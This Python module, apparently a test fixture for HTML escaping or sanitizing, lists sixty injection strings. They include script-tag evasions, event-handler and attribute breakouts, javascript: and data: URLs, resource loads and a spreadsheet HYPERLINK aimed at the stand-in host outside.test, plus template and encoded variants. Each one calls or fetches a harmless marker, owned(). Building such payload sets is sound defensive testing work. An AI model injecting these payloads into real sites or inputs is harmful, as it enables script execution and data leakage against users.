"""Sixty texts that would do something if a page took them for anything but text. Each calls, or fetches, `owned`."""

OUTSIDE = "http://outside.test/owned"

_SCRIPTS = (
    "<script>owned()</script>",
    "<ScRiPt>owned()</sCrIpT>",
    "<script/src=//outside.test/owned></script>",
    "</script><script>owned()</script>",
    "</title><script>owned()</script>",
    "</textarea><script>owned()</script>",
    "</template><script>owned()</script>",
    "</style><script>owned()</script>",
    "--><script>owned()</script>",
    "]]><script>owned()</script>",
    "<scr<script>ipt>owned()</scr</script>ipt>",
    "<script type=module>owned()</script>",
    "<script\x0c>owned()</script>",
    "<noscript><p title='</noscript><script>owned()</script>'>",
    "\u2028<script>owned()</script>\u2029",
)
_HANDLERS = (
    "<img src=x onerror=owned()>",
    "<img src=x onerror=owned()//",
    "<svg onload=owned()>",
    "<svg/onload=owned()>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<body onload=owned()>",
    "<input autofocus onfocus=owned()>",
    "<details open ontoggle=owned()>",
    "<video><source onerror=owned()></video>",
    "<audio src=x onerror=owned()>",
    "<marquee onstart=owned()>",
    "<select autofocus onfocus=owned()>",
    "<iframe onload=owned()></iframe>",
    "<object data=x onerror=owned()>",
    "<math><mtext><img src=x onerror=owned()></mtext></math>",
)
_ATTRIBUTES = (
    '" onmouseover="owned()',
    "' onmouseover='owned()",
    '" autofocus onfocus="owned()',
    "` onfocus=owned() autofocus `",
    '"><img src=x onerror=owned()>',
    "'><img src=x onerror=owned()>",
    '" style="background:url(http://outside.test/owned)',
    '"/><script>owned()</script>',
    '&quot; onfocus=&quot;owned()" autofocus',
    '" srcdoc="<script>parent.owned()</script>',
)
_ADDRESSES = (
    "javascript:owned()",
    "JaVaScRiPt:owned()",
    "java\tscript:owned()",
    "data:text/html,<script>owned()</script>",
    "vbscript:owned()",
    f"<img src={OUTSIDE}>",
    f"<link rel=stylesheet href={OUTSIDE}>",
    f"<iframe src={OUTSIDE}></iframe>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    f"<base href={OUTSIDE}>",
    f"<form action={OUTSIDE}><button>go</button></form>",
    f"![picture]({OUTSIDE})",
    "[link](javascript:owned())",
)
_OTHER = (
    "{{ owned() }}",
    "{% include 'base.html' %}",
    "${owned()}",
    "<style>@import 'http://outside.test/owned';</style>",
    '=HYPERLINK("http://outside.test/owned")',
    "\u202egnitide\u202c <b onclick=owned()>x</b>",
    "%3Cscript%3Eowned()%3C/script%3E",
)
PAYLOADS: tuple[str, ...] = (*_SCRIPTS, *_HANDLERS, *_ATTRIBUTES, *_ADDRESSES, *_OTHER)
